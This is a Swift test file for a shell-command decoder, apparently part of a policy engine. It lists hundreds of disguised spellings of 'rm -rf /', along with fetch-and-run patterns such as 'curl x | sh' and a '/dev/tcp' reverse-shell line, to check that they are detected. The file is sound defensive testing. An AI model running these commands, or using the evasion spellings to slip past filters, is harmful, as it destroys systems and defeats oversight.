import PolicyBytecode
import Testing

@testable import Operations

/// A row of a table: a payload and its operations.
struct ShellRow {
  var input: String
  var operations: [String]
}

/// The rows of a table: `$ PAYLOAD`, where `⏎` and `⇥` stand for a newline and a tab, and below it the operations as
/// ``Decoded/line`` has them, indented; `∅` is one without a command.
func shellRows(_ table: String) -> [ShellRow] {
  var rows: [ShellRow] = []
  for line in table.split(separator: "\n") where !line.hasPrefix("## ") {
    if line.hasPrefix("$ ") {
      let input = line.dropFirst(2).replacing("⏎", with: "\n").replacing("⇥", with: "\t")
      rows.append(ShellRow(input: String(input), operations: []))
    } else if !rows.isEmpty {
      rows[rows.count - 1].operations.append(String(line.dropFirst(2)))
    }
  }
  return rows
}

@Suite struct ShellDecoderTests {
  @Test func tables() {
    for table in shellTables {
      for row in shellRows(table) {
        // Statements and requests are the business of the decoder of their protocol.
        let found = decodeShell(row.input).filter { $0.protocol != .http }.map { operation in
          let line = operation.line.isEmpty ? "∅" : operation.line
          guard operation.protocol != .shell, operation.reason != .unknownCode else { return line }
          return (operation.protocol == .postgres ? "sql" : operation.protocol.name) + line.drop { $0 != "‹" }
        }
        #expect(found == row.operations, "\(row.input)")
      }
    }
  }

  @Test func argumentsAreTheWordsBehindTheProgram() {
    let operation = decodeShell("tar -xf 'a b.tar' \"$x\"").first
    #expect(operation?.texts(.shellArgument) == ["-xf", "a b.tar", "$x"])
    #expect(operation?.texts(.shellProgram) == ["tar"])
  }

  @Test func onlyWhatIsAskedForIsComputed() {
    for fact in [Fact.command, .shellProgram, .shellFlag, .shellArgument, .shellPath, .shellWrites, .shellUnknown] {
      let operations = decodeShell(Array("rm -rf /x > y".utf8), demand: FactDemand(facts: FactSet([fact])))
      let facts = Set(operations.flatMap { $0.facts.keys })
      #expect(facts.subtracting([.unparsed]) == [fact])
    }
  }

  /// The decoder keeps its memory from one payload to the next, and must keep nothing else.
  @Test func whatWasDecodedBeforeDoesNotMatter() {
    var context = DecodeContext(demand: .everything)
    let rows = shellTables.flatMap { shellRows($0) }.map { Array($0.input.utf8) }
    for payload in rows + rows.reversed() {
      context.decode(.shell, payload)
      #expect(decodedOperations(context) == decodeShell(payload), "\(String(decoding: payload, as: UTF8.self))")
    }
    // So large that its memory is not kept.
    let large = Array(("echo " + String(repeating: "x ", count: ShellLimits.keptBytes)).utf8)
    context.decode(.shell, large)
    #expect(context.shellDecoder == nil && context.batch.count == 1)
    context.decode(.shell, Array("rm -r /".utf8))
    #expect(decodedOperations(context) == decodeShell("rm -r /"))
  }

  /// What is asked for decides which facts are computed, never what they say.
  @Test func demandDoesNotChangeFacts() {
    let sets: [[Fact]] = [
      [.command], [.shellProgram, .shellFlag], [.shellPath], [.shellWrites], [.shellInputFrom, .shellUnknown],
      [.shellArgument, .shellPrivileged, .via],
    ]
    for payload in shellTables.flatMap({ shellRows($0) }).map({ Array($0.input.utf8) }) {
      let full = decodeShell(payload).filter { $0.protocol == .shell }
      for facts in sets {
        let demand = FactDemand(facts: FactSet(facts))
        let some = decodeShell(payload, demand: demand).filter { $0.protocol == .shell }
        #expect(some.map(\.reason) == full.map(\.reason))
        for fact in facts {
          #expect(
            some.map { $0.texts(fact) } == full.map { $0.texts(fact) },
            "\(fact) of \(String(decoding: payload, as: UTF8.self))")
        }
      }
    }
  }

  @Test func contextsAreReusable() {
    var context = DecodeContext(demand: .everything)
    context.decode(.shell, Array("sudo sh -c 'a; b'".utf8))
    let first = context.batch.count
    context.decode(.shell, Array("ls 'x".utf8))
    #expect(context.batch.count == 1)
    context.decode(.shell, Array("sudo sh -c 'a; b'".utf8))
    #expect(context.batch.count == first)
  }

  /// Words are given as long options of any unambiguous length.
  @Test func longOptionsMayBeCut() {
    let full = "--recursive"
    for count in 3...full.count {
      #expect(decodeShell("rm \(full.prefix(count)) x").first?.texts(.shellFlag) == ["-r"], "\(full.prefix(count))")
    }
  }

  /// Every way of writing the same command that this table has is the same operation.
  @Test func spellingsOfRemovingTheRoot() {
    let spellings = [
      "rm -rf /", "rm -fr /", "rm -r -f -- /", "rm --recursive --force /", "rm --recu --forc /", "rm / -rf",
      "rm -R --force //",
      "r''m -rf /", "'r'm -rf \"/\"", "\\r\\m -r\\f /", "$'rm' -rf $'/'", "$'\\162\\x6d' -rf /", "$\"rm\" -rf /",
      "rm -rf /.", "rm -rf /./",
      "rm -rf /../..", "rm -rf /etc/..", "/bin/rm -rf /", "/usr/bin/../bin/rm -rf /", "x=rm; $x -rf /",
      "x='rm -rf /'; $x",
      "x=r y=m; $x$y -rf /", "x=/; rm -rf $x", "x=/; rm -rf \"${x}\"", "rm${IFS}-rf${IFS}/", "rm$IFS-rf$IFS/",
      "{rm,-rf,/}",
      "rm -rf {/,}", "cd /; rm -rf .", "cd / && rm -rf ./", "cd /etc; rm -rf ..", "cd /; rm -rf ./.", "rm \\\n -rf /",
      "r\\\nm -rf /",
      "rm\t-rf\t/", "rm -rf / # x", ">x rm -rf /", "rm >x -rf / 2>&1", "x=1 rm -rf /", "! rm -rf /", "rm -rf / &",
      "true; rm -rf /",
      "true && rm -rf /", "false || rm -rf /", "(rm -rf /)", "{ rm -rf /; }", "if a; then rm -rf /; fi",
      "while a; do rm -rf /; done",
      "for x in /; do rm -rf $x; done", "for x in a / b; do rm -rf $x; done", "case x in x) rm -rf /;; esac",
      "f() { rm -rf /; }",
      "f() { rm -rf $1; }; f /", "function f { rm -rf \"$@\"; }; f /", "echo $(rm -rf /)", "echo `rm -rf /`",
      "echo \"$(rm -rf /)\"",
      "cat <(rm -rf /)", "cat <<E\n$(rm -rf /)\nE", "x=$(rm -rf /)", "echo ${x:-$(rm -rf /)}",
      "echo $((1+$(rm -rf /)))",
      "[[ -n $(rm -rf /) ]]", "(( x = $(rm -rf /) ))", "a[$(rm -rf /)]=1", "echo ${a[$(rm -rf /)]}", "a=($(rm -rf /))",
      "sudo rm -rf /", "sudo -u root -- rm -rf /", "sudo -uroot rm -rf /", "sudo X=1 rm -rf /", "doas -u root rm -rf /",
      "env rm -rf /",
      "env -i X=1 rm -rf /", "env -S'rm -rf /'", "nice -n 19 rm -rf /", "nice rm -rf /", "ionice -c3 rm -rf /",
      "nohup rm -rf /",
      "time rm -rf /", "/usr/bin/time -v rm -rf /", "timeout 5 rm -rf /", "timeout -s KILL -k 1 5 rm -rf /",
      "stdbuf -oL rm -rf /",
      "setsid -f rm -rf /", "chroot /x rm -rf /", "unshare -m rm -rf /", "nsenter -t 1 -m rm -rf /",
      "taskset -c 0 rm -rf /",
      "taskset 1 rm -rf /", "chrt -f 1 rm -rf /", "strace -f rm -rf /", "watch -n 1 rm -rf /", "watch 'rm -rf /'",
      "script -c 'rm -rf /' x",
      "flock /x rm -rf /", "flock /x -c 'rm -rf /'", "command rm -rf /", "builtin command rm -rf /", "exec rm -rf /",
      "exec -a x rm -rf /",
      "busybox rm -rf /", "toybox rm -rf /", "eval rm -rf /", "eval 'rm -rf' /", "eval \"rm -rf /\"",
      "trap 'rm -rf /' EXIT", "coproc rm -rf /",
      "sh -c 'rm -rf /'", "bash -lc 'rm -rf /'", "bash -xec 'rm -rf /'", "bash --norc -c 'rm -rf /'",
      "sh -c 'rm -rf $1' x /",
      "sh -c '$0 -rf /' rm", "sh -c '\"$@\"' x rm -rf /", "sh <<< 'rm -rf /'", "sh <<E\nrm -rf /\nE",
      "bash -s <<'E'\nrm -rf /\nE",
      "echo 'rm -rf /' | sh", "echo -e 'rm\\x20-rf /' | sh", "printf '%s\\n' 'rm -rf /' | bash",
      "echo rm -rf / | sudo bash",
      "cat <<E | sh\nrm -rf /\nE", "echo rm -rf / | tee x | sh", "sh <(echo rm -rf /)", ". <(echo rm -rf /)",
      "source /dev/stdin <<< 'rm -rf /'",
      "X='rm -rf /'; sh -c \"$X\"", "export X=rm; sh -c '$X -rf /'", "X=rm sh -c '$X -rf /'", "su -c 'rm -rf /'",
      "su - x -c 'rm -rf /'",
      "runuser -u x -- rm -rf /", "pkexec rm -rf /", "find . -exec rm -rf / \\;", "find / -exec rm -rf {} +",
      "echo / | xargs rm -rf",
      "xargs rm -rf <<< /", "xargs -n1 rm -rf / < x", "ls | xargs -I{} rm -rf / {}", "parallel rm -rf ::: /",
      "ssh h rm -rf /", "ssh -p 2 u@h 'rm -rf /'",
      "ssh h <<E\nrm -rf /\nE", "ssh h sudo sh -c \"'rm -rf /'\"", "docker exec c rm -rf /",
      "docker run --rm -it i sh -c 'rm -rf /'",
      "podman exec -u 0 c rm -rf /", "kubectl exec p -- rm -rf /", "kubectl exec -it p -c c -- sh -c 'rm -rf /'",
      "systemd-run rm -rf /",
      "xvfb-run -a rm -rf /", "dbus-run-session -- rm -rf /", "proxychains rm -rf /", "ssh-agent rm -rf /",
      "screen -dm rm -rf /",
      "tmux new -d 'rm -rf /'", "echo 'rm -rf /' | at now", "echo '* * * * * rm -rf /' | crontab -",
      "git -c alias.x='!rm -rf /' x",
      "awk 'BEGIN{system(\"rm -rf /\")}'", "perl -e 'system(\"rm -rf /\")'",
      "python3 -c 'import os; os.system(\"rm -rf /\")'",
      "vim -c ':!rm -rf /'", "psql -c '\\! rm -rf /'", "/lib64/ld-linux-x86-64.so.2 /bin/rm -rf /",
      "tar cf x --checkpoint-action=exec='rm -rf /' y",
      // Aliases, arrays, positional parameters as a whole
      "alias x='rm -rf /'; x", "alias x='rm -rf /'", "alias x='rm -rf'\nx /", "alias a=b c='rm -rf /'",
      "x=(rm -rf /); \"${x[@]}\"", "x=(rm -rf /); ${x[*]}", "a=(-rf); a+=(/); rm \"${a[@]}\"", "c=rm; c+=' -rf /'; $c",
      "x=(/); rm -rf $x", "x=(/tmp /); rm -rf \"${x[@]}\"", "a=(/); rm -rf ${a[0]}",
      "declare -a x=(/); rm -rf \"${x[@]}\"",
      "set -- rm -rf /; x=\"$*\"; $x", "x=/; rm -rf \"${x%/}/\"", "f() { local d=$1; rm -rf \"$d\"; }; f /",
      // Values that only may be
      "rm -rf $(echo /)", "rm -rf \"`echo /`\"", "x=$(echo /); rm -rf $x",
      "for d in 1 2 3 4 5 6 7 8 9 /; do rm -rf $d; done",
      "while read d; do rm -rf \"$d\"; done <<< /", "read d <<< /; rm -rf $d",
      "echo / | while read d; do rm -rf $d; done",
      "echo / | xargs -I{} rm -rf {}", "printf 'a\\n/\\n' | xargs -I% rm -rf %", "printf '/\\0' | xargs -0 rm -rf",
      "echo a,/ | tr -d x | cat; printf 'a,/' | xargs -d, rm -rf",
      // Where a variable is not set.
      "echo ${none:-/} | xargs rm -rf", "printf '%s /' -r${x}f | xargs rm",
      "bash $(printf %s '-c') 'rm ${none:--rf} /'", "sh ${none:--c} 'sh ${none:--c} \"rm ${none:--rf} /\"'",
      "find . -maxdepth 0 $(printf %s '-exec') bash -c 'rm ${none:--rf} /' \\;",
      "echo $(printf %s /) | xargs -I{} rm -rf {}", "rm -rf /$x", "rm -rf /${x}/", "rm -rf \"/$x/\"",
      "rm -rf /$x//${y}", "rm -rf /$x/.", "rm -${x}fr /$x/", "chrt ${none:--b} 0 rm -rf /$x/",
      "set -- / /tmp; for d; do rm -rf $d; done", "f() { for d in \"$@\"; do rm -rf \"$d\"; done; }; f /tmp /",
      "f() { shift; rm -rf \"$1\"; }; f a /", "D=${1:-/}; rm -rf \"$D\"", ": ${D:=/}; rm -rf \"$D\"",
      "mapfile -t a < <(echo /); rm -rf \"${a[@]}\"",
      // Line ends of DOS
      "rm -rf /\r", "rm -rf /\r\n", "cd /\r\nrm -rf .\r\n",
      // Programs that run others
      "parallel 'rm -rf {}' ::: /", "parallel rm -rf {} ::: a /", "echo / | parallel rm -rf",
      "echo 'rm -rf /' | parallel",
      "ssh h -- rm -rf /", "ssh h -p 22 rm -rf /", "ssh h -t 'rm -rf /'", "mosh h -- rm -rf /",
      "docker exec -w / c rm -rf .", "docker compose -f x.yml exec -T web rm -rf /",
      "docker-compose -p x run web rm -rf /",
      "crictl exec -it c rm -rf /", "buildah run c rm -rf /", "lxc exec c -- rm -rf /", "incus exec c rm -rf /",
      "lxc-attach -n c -- rm -rf /", "machinectl shell c /bin/rm -rf /", "systemd-nspawn -D /c rm -rf /",
      "oc rsh p rm -rf /", "k exec p -- rm -rf /", "vagrant ssh -c 'rm -rf /'", "busybox.static rm -rf /",
      "npx -c 'rm -rf /'", "npm exec -c 'rm -rf /'", "ls | entr rm -rf /", "proot -r x rm -rf /", "env -S rm -rf /",
      "env -S '-i rm' -rf /", "socat - SYSTEM:'rm -rf /',stderr", "socat exec:'rm -rf /' -",
      "screen -X stuff 'rm -rf /\\n'",
      "make -f - <<< 'all:; rm -rf /'", "make -f - <<E\nall:\n\t@rm -rf /\nE", "make --eval='x:; rm -rf /' x",
      "git rebase -x 'rm -rf /' main", "git filter-branch --tree-filter 'rm -rf /'", "git difftool -x 'rm -rf /'",
      "git config --global alias.x '!rm -rf /'", "PAGER='rm -rf /' man x", "export EDITOR='rm -rf /'",
      "env GIT_SSH_COMMAND='rm -rf /' git pull", "psql -o '|rm -rf /'", "vim -c 'silent !rm -rf /'",
      "vim -c 'call system(\"rm -rf /\")'", "ed x <<< '!rm -rf /'",
      // Other languages
      "awk 'BEGIN{\"rm -rf /\" | getline}'", "awk '{print | \"rm -rf /\"}'", "php -r 'system(\"rm -rf /\");'",
      "perl -e '`rm -rf /`'", "perl -e 'qx(rm -rf /)'", "perl -e 'system q{rm -rf /}'", "ruby -e '%x(rm -rf /)'",
      "node -p 'require(\"child_process\").execSync(`rm -rf /`)'", "node -e 'spawn(\"rm\", [\"-rf\", \"/\"])'",
      "python3 -c \"import os; os.system('''rm -rf /''')\"", "python3 -c 'import os; os.system(rf\"rm -rf /\")'",
      "python3 -c 'os.execvp(\"rm\", [\"rm\", \"-rf\", \"/\"])'", "lua -e 'os.execute(\"rm -rf /\")'",
    ]
    for spelling in spellings { #expect(removesRoot(spelling), "\(spelling)") }
  }

  private func removesRoot(_ line: String) -> Bool {
    decodeShell(line).contains { operation in
      operation.texts(.shellProgram) == ["rm"] && operation.texts(.shellFlag).contains("-r")
        && operation.texts(.shellPath).contains("/")
    }
  }

  /// Where a variable is as good as any name, it is not read as none.
  @Test func variablesThatAreParts() {
    let lines = [
      "rm -rf \"$TMPDIR/build\"", "rm -rf $x/$y", "rm -rf /tmp/$x", "rm -rf /tmp/$x/", "rm -rf /tmp/$x/$y",
      "rm -rf $x/y/", "rm -rf ./$x/", "rm -rf /$x/build", "rm -rf \"/$x/$y/build\"", "x=tmp; rm -rf /$x/",
    ]
    for line in lines { #expect(!removesRoot(line), "\(line)") }
  }

  /// What a word that is not known lets run keeps the words in it that are not known.
  @Test func unknownWordsBehindReadOnes() {
    let lines = [
      "chrt ${none:--b} 0 aws ec2 terminate-$Y", "timeout -${none}s KILL 60s aws ec2 terminate-$Y",
      "ionice -${none}c ${none:-3} aws ec2 terminate-$Y", "find / -maxdepth 0 ${none:--exec} aws ec2 terminate-$Y \\;",
      "find $(printf %s '/') $(printf %s '-exec') $(printf %s 'aws') $(printf %s 'ec2') terminate-$Y \\;",
      "nice ${none:--n} ${none:-1} nice ${none:--n} ${none:-1} ${none:-aws} ec2 terminate-$Y",
    ]
    for line in lines {
      let runs = decodeShell(line).contains { $0.texts(.command) == ["aws ec2 terminate-$Y"] }
      #expect(runs, "\(line)")
    }
    // The words given to code are known all together, or it is not known what the code does.
    for line in [
      "bash -${none}c 'exec \"$0\" \"$@\"' aws ec2 terminate-$Y", "bash ${none:--c} '\"$@\"' _ aws ec2 terminate-$Y",
      "sh -${none}c '\"$@\"' _${none} a${none}ws e${none}c2 terminate-$Y",
    ] { #expect(decodeShell(line).contains { $0.reason == .unknownProgram }, "\(line)") }
  }

  /// What `printf` prints, as the shells have it.
  @Test func printedCode() {
    let lines: [(String, String)] = [
      (#"printf '%s\n' 'a b'"#, "a b"), (#"printf '\x61\x20b'"#, "?|a b"), (#"printf 'a %s;' b c"#, "a b|a c"),
      (#"printf 'a %%s'"#, "a %s"), (#"printf 'a \x25s' b"#, "?|a %s"), (#"printf 'a \45s%s' b"#, "a %sb"),
      (#"printf 'a\x2%s' b"#, "?|a\u{2}b"), (#"printf '%b' 'a\x20\x25s'"#, "?|a %s"),
      (#"printf 'a \\\\%s' b"#, #"a \b"#),
      (#"printf 'a %'"#, "a %"),
      // Not known, but likely; not all shells have all escapes.
      (#"printf "$(printf '\x25\x73')" x"#, "?|x"), (#"printf 'a\cb'"#, "?"), (#"printf %b 'a\c' b"#, "?"),
      (#"printf %d 1"#, "?"),
    ]
    for (line, commands) in lines {
      let operations = decodeShell(line + " | sh")
      let behind = operations.drop { $0.texts(.shellProgram) != ["sh"] }.dropFirst()
      let seen = behind.map { $0.reason == .unknownCode ? "?" : $0.texts(.command).joined() }.joined(separator: "|")
      #expect(seen == commands, "\(line)")
    }
  }

  /// What only mentions removing the root does not do it.
  @Test func mentionsAreNoOperations() {
    let mentions = [
      "echo 'rm -rf /'", "echo rm -rf /", "grep -r \"rm -rf\" .", "# rm -rf /", "ls # ; rm -rf /",
      "cat <<'E'\nrm -rf /\n$(rm -rf /)\nE",
      "git commit -m 'rm -rf /'", "printf 'rm -rf /\\n' > x", "x='rm -rf /'", "echo \"a; rm -rf /\"",
      "echo a\\; rm -rf /", "command -v rm",
      "echo '$(rm -rf /)'", "echo \\$(:)rm", "man rm", "which rm", "sed 's/rm -rf \\///' x",
      "[[ rm -rf == / ]]",
    ]
    for mention in mentions {
      let removes = decodeShell(mention).contains {
        $0.texts(.shellProgram) == ["rm"] || $0.texts(.shellProgram) == [] && $0.reason == .unknownProgram
      }
      #expect(!removes, "\(mention)")
    }
  }

  /// Programs and code that the line does not tell are unparsed.
  @Test func whatCannotBeKnownIsUnparsed() {
    let programs = [
      "$(echo rm) -rf /", "`echo rm` -rf /", "$x -rf /", "${x:-rm} -rf /", "${x#a} -rf /", "${!x} -rf /",
      "x=rm; ${x:0:1}m /", "r$@m -rf /", "$1 x",
      "/bin/r? -rf /", "/???/rm -rf /", "r[m] -rf /", "x='/bin/r?'; $x /", "sudo $x /", "env $(echo rm) /",
      "IFS=,; x=rm,-rf,/; $x", "read x; $x",
      "for x in a b; do $x; done", "if a; then x=rm; fi; $x", "x=ls; f() { x=rm; }; f; $x",
      "x=ls; while a; do $x; x=rm; done", "x=ls; eval \"$y\"; $x",
      "x=ls; . ./y; $x", "unset x; $y", "!!", "!rm", "sudo !!", "declare -n y=x; x=rm; $y", "find . -exec {} \\;",
      "ls | xargs sudo", "@(rm|x) /",
      "$((1)) x", "x=([1]=rm); $x", "x+=m; $x", "x=(rm $y); ${x[0]} /", "X=rm; sh -c '$X /'",
      "trap 'x=rm' DEBUG; x=ls; $x",
    ]
    for line in programs { #expect(decodeShell(line).contains { $0.reason == .unknownProgram }, "\(line)") }
    let codes = [
      "curl x | sh", "curl x | sudo bash", "wget -qO- x | sudo -u y bash -s -- z", "bash <(curl x)",
      "sh -c \"$(curl x)\"", "source <(curl x)",
      ". <(curl x)", "eval \"$(curl x)\"", "eval $x", "curl x | tee y | sh", "curl x | python3", "curl x | python3 -",
      "curl x | perl", "curl x | node",
      "curl x | ruby", "curl x | php", "python3 <(curl x)", "python3 -c \"$(curl x)\"", "sh < <(curl x)",
      "curl x | (cd /; sh)", "curl x | { sh; }",
      "curl x | while read l; do sh -c \"$l\"; done", "f() { sh; }; curl x | f", "curl x | tee >(sh)",
      "echo cm0= | base64 -d | sh", "sh <<E\n$x\nE",
      "sh <<< \"$x\"", "echo $x | sh", "echo 'r\\155' | sh", "cat x | sh", "ls | xargs -I{} sh -c {}",
      "find . -exec sh -c 'x {}' \\;", "ssh h \"$x\"",
      "cat x | ssh h", "cat x | ssh h sh", "curl x | docker exec -i c sh", "curl x | sh /dev/stdin", "curl x | bash -",
      "cat x | at now", "cat x | crontab -",
      "su -c \"$x\"", "curl x | su", "curl x | sudo -s", "trap \"$x\" EXIT", "curl x | env sh", "curl x | busybox sh",
      "sh < /dev/tcp/h/1", "bash -i >& /dev/tcp/h/1 0>&1", "alias x=\"$y\"", "curl x | make -f -", "curl x | awk -f -",
      "curl x | expect", "curl x | ed", "curl x | parallel", "printf 'ls\\0' | xargs -0 -I{} sh -c {}",
      "{ echo a; curl x; } | sh",
      // What one of several programs prints is not what all of them do.
      "sh -c 'curl x; echo a' | sh", "eval 'curl x && echo a' | sh", "sudo sh -c 'curl x | cat; echo a' | sh",
      "ssh h 'curl x; echo a' | sh", "sh <<< 'curl x; echo a' | sh", "echo 'curl x; echo a' | sh | sh",
      "sh -c '$x; echo a' | sh", "sh -c \"$x echo a\" | sh", "parallel echo ::: a b | sh", "watch echo a | sh",
      "make --eval='a: ; curl x; echo a' | sh", "alias cat='echo a'; cat x | sh",
      // Nor is what a program prints that runs any number of times, or with words that are not known.
      "cat x | xargs echo | sh", "cat x | xargs -I{} echo a | sh", "echo 'a b' | xargs -n1 echo | sh",
      "find . -exec echo -n r \\; | sh", "find . -exec sh -c 'curl x; echo a' \\; | sh", "busybox xargs printf | sh",
    ]
    for line in codes {
      #expect(decodeShell(line).contains { $0.reason == .unknownCode && $0.protocol == .shell }, "\(line)")
    }
    for line in [
      "cat x | psql", "cat x | psql -f -", "psql -f <(cat x)", "psql -c 'select 1' -f /dev/stdin < <(cat x)",
      "cat x | psql -f - -c 'select 1'", "psql -c \"$x\"", "psql <<E\n$x\nE", "psql -c '\\i x'",
      "echo 'select 1 \\gexec' | psql",
    ] {
      #expect(decodeShell(line).contains { $0.reason == .unknownCode && $0.protocol == .postgres }, "\(line)")
    }
    // What they are likely to run is told, too.
    for line in [
      "find . -exec echo rm -rf / \\; | sh", "echo rm -rf / | xargs -n3 echo | sh", "echo ${x:-rm -rf /} | sh",
      "sh -c 'curl x; echo rm -rf /' | sh",
    ] {
      #expect(decodeShell(line).contains { $0.summary == "rm -rf /" && $0.isTrue(.shellUnknown) }, "\(line)")
    }
    #expect(decodeShell("ls | xargs echo | xargs rm").last?.isTrue(.shellUnknown) == true)
    let known = [
      "curl x | python3 -m json.tool", "cat x | perl -ne print", "bash", "python3", "bash x.sh", "sh < x",
      "cat x | sh y.sh", "echo $HOME", "~/bin/x",
      "echo a | sudo sh", "sudo echo a | sh", "sh -c 'echo a' | sh", "echo a b | xargs echo | sh",
      "su -c 'echo a' | sh",
      "busybox echo a | cat | sh", "time -p timeout 5 echo a | sh", "eval echo a | sh",
      "$HOME/bin/x y", "[ -f x ]", "psql -f x", "psql", "cat x | python3 y.py", "[[ -f $x ]]", "sh -c 'echo $x'",
    ]
    for line in known { #expect(decodeShell(line).allSatisfy { $0.reason == .none }, "\(line)") }
  }
}
